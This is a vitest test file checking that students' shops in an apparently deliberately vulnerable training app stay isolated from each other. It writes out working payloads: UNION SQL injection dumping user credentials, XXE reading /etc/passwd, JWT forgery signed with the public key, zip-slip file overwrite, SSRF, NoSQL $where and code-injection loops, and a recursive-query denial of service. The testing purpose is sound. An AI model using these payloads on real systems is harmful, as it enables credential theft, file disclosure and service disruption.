import { SignJWT } from "jose";
import { beforeAll, describe, expect, it } from "vitest";
import { actAs, baseUrl, bearer, call, isSolved, tokenFor } from "../support/instance";
import { createCohort, Student } from "../support/cohort";
import { persona } from "../support/seed";
import { customerToken, readThroughXxe, upload, zipOf } from "../support/uploads";

const register = (email: string) => call("/api/Users/", { method: "POST", json: { email, password: "pass1234", passwordRepeat: "pass1234" } });
const search = (q: string) => call(`/rest/products/search?q=${encodeURIComponent(q)}`);
const unionOverUsers = "qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--";
const emailsLeaked = async () => ((await (await search(unionOverUsers)).json()).data as { name: string }[]).map((row) => row.name);
const termsOfUse = async () => (await (await upload(await customerToken(), { name: "peek.xml", content: readThroughXxe("/ftp/legal.md") })).json()).parsed as string;

/**
 * Two students of one cohort attack their own shops with the shop's own vulnerabilities; each
 * attack shows and changes nothing in the other's shop, in either direction.
 */
describe("cohort mode: students' shops are isolated from each other", () => {
  let ada: Student;
  let bo: Student;
  beforeAll(async () => {
    const code = await createCohort({ name: "Isolation" });
    ada = await new Student("Ada").join(code);
    bo = await new Student("Bo").join(code);
    ada.use();
    expect((await register("only-ada@cohort.test")).status).toBe(201);
    bo.use();
    expect((await register("only-bo@cohort.test")).status).toBe(201);
  });

  for (const [attacker, victim, own, other] of [
    ["ada", "bo", "only-ada@cohort.test", "only-bo@cohort.test"],
    ["bo", "ada", "only-bo@cohort.test", "only-ada@cohort.test"],
  ] as const) {
    const as = (who: "ada" | "bo") => (who === "ada" ? ada : bo).use();

    it(`a UNION injection on ${attacker}'s shop lists ${attacker}'s users only`, async () => {
      as(victim);
      const before = await isSolved("unionSqlInjectionChallenge");
      as(attacker);
      const leaked = await emailsLeaked();
      expect(leaked).toContain(own);
      expect(leaked).not.toContain(other);
      expect(await isSolved("unionSqlInjectionChallenge")).toBe(true);
      as(victim);
      // Unsolved the first time round; in the other direction the victim had solved it themselves.
      expect(await isSolved("unionSqlInjectionChallenge")).toBe(before);
      expect(before).toBe(attacker === "bo");
    });

    it(`a zip slip on ${attacker}'s shop rewrites ${attacker}'s terms of use, not ${victim}'s (read back through XXE)`, async () => {
      as(victim);
      const before = await isSolved("fileWriteChallenge");
      as(attacker);
      const terms = `# Terms of ${attacker}\n\nAll juice is free.\n`;
      expect((await upload(await customerToken(), { name: "e.zip", content: zipOf({ "../../ftp/legal.md": terms }), type: "application/zip" })).status).toBe(201);
      expect(await termsOfUse()).toContain(`Terms of ${attacker}`);
      expect(await isSolved("fileWriteChallenge")).toBe(true);
      as(victim);
      expect(await termsOfUse()).not.toContain(`Terms of ${attacker}`);
      expect(await isSolved("fileWriteChallenge")).toBe(before);
    });
  }

  it("the XXE file read and a forged JWT solve on the attacker's shop only", async () => {
    ada.use();
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE c [<!ENTITY leak SYSTEM "file:///etc/passwd">]>\n<c>&leak;</c>\n`;
    expect((await (await upload(await customerToken(), { name: "c.xml", content: xxe, type: "text/xml" })).json()).parsed).toContain("root:x:0:0");
    const publicKey = await (await call("/encryptionkeys/jwt.pub")).text();
    const forged = await new SignJWT({ status: "success", data: { id: 1, email: "rsa.rudi@squeeze.test", role: "admin" } })
      .setProtectedHeader({ alg: "HS256", typ: "JWT" })
      .setIssuedAt()
      .sign(new TextEncoder().encode(publicKey));
    expect((await call("/rest/user/whoami", { headers: bearer(forged) })).status).toBe(200);
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(true);
    expect(await isSolved("jwtForgedChallenge")).toBe(true);
    bo.use();
    expect(await isSolved("xxeFileDisclosureChallenge")).toBe(false);
    expect(await isSolved("jwtForgedChallenge")).toBe(false);
    // Ada's forged token is a token of Ada's shop: Bo's shop does not take a real one of Ada's either.
    ada.use();
    const real = await tokenFor(persona("jim").email, persona("jim").password);
    bo.use();
    expect((await (await call("/rest/user/whoami", { headers: bearer(real) })).json()).user?.email).toBe(persona("jim").email);
  });

  it("the SSRF reaches the attacker's own shop only: not the trainer's API, not another student", async () => {
    ada.use();
    const token = await tokenFor(persona("jim").email, persona("jim").password);
    const post = (imageUrl: string) =>
      call("/profile/image/url", { method: "POST", headers: { ...bearer(token), Cookie: `${ada.seat}; token=${token}` }, body: new URLSearchParams({ imageUrl }), redirect: "manual" });
    expect((await post(`${baseUrl()}/trainer/api/cohorts`)).status).toBe(302);
    const profile = await (await call("/profile", { headers: { Cookie: `${ada.seat}; token=${token}` } })).text();
    expect(profile).not.toMatch(/"cohorts"/);
    bo.use();
    expect(await isSolved("ssrfChallenge")).toBe(false);
  });

  it("the NoSQL $where sleep on one shop leaves the other answering meanwhile", async () => {
    ada.use();
    const slowPath = `/rest/products/${encodeURIComponent("sleep(2000)")}/reviews`;
    let slowDone = false;
    const slow = call(slowPath).then((response) => {
      slowDone = true;
      return response.status;
    });
    bo.use();
    const quick = await call("/rest/products/search?q=orange");
    expect(quick.status).toBe(200);
    expect(slowDone).toBe(false);
    expect(await slow).toBe(200);
    ada.use();
    expect(await isSolved("noSqlCommandChallenge")).toBe(true);
    bo.use();
    expect(await isSolved("noSqlCommandChallenge")).toBe(false);
  });

  it("an endless loop in one shop's $where is stopped by its budget, and the other answers normally", async () => {
    ada.use();
    const loop = call(`/rest/products/${encodeURIComponent("(() => { while (true) {} })()")}/reviews`);
    bo.use();
    const [stopped, other] = await Promise.all([loop, search("orange")]);
    expect(stopped.status).toBe(400);
    expect((await stopped.json()).error).toMatch(/time budget/);
    expect(other.status).toBe(200);
    expect((await other.json()).data.length).toBeGreaterThan(0);
  });

  it("an endless B2B order on one shop is stopped by its budget and solves there only; the other answers normally", async () => {
    ada.use();
    const token = await customerToken();
    const loop = call("/b2b/v2/orders", { method: "POST", headers: bearer(token), json: { cid: "ISO-1", orderLinesData: "while (true) {}" } });
    bo.use();
    const [stopped, other] = await Promise.all([loop, search("orange")]);
    expect(stopped.status).toBe(400);
    expect((await stopped.json()).error).toMatch(/time budget/);
    expect(other.status).toBe(200);
    ada.use();
    expect(await isSolved("rceChallenge")).toBe(true);
    bo.use();
    expect(await isSolved("rceChallenge")).toBe(false);
  });

  it("each shop's access log holds its own requests only", async () => {
    const today = `/support/logs/access.log.${new Date().toISOString().slice(0, 10)}`;
    ada.use();
    expect((await search("only-ada-was-here")).status).toBe(200);
    bo.use();
    expect((await search("only-bo-was-here")).status).toBe(200);
    for (const [who, own, theirs] of [
      [ada, "only-ada-was-here", "only-bo-was-here"],
      [bo, "only-bo-was-here", "only-ada-was-here"],
    ] as const) {
      who.use();
      const log = await (await call(today)).text();
      expect(log).toContain(own);
      expect(log).not.toContain(theirs);
    }
  });

  it("a recursive SQL query on one shop is stopped, and the other answers normally", async () => {
    ada.use();
    const q = "')) UNION SELECT * FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT count(*),2,3,4,5,6,7,8,9 FROM c)--";
    const attack = search(q);
    bo.use();
    const [attacked, other] = await Promise.all([attack, search("orange")]);
    expect(attacked.status).toBe(500);
    expect(other.status).toBe(200);
    expect((await other.json()).data.length).toBeGreaterThan(0);
    actAs(undefined);
  });
});
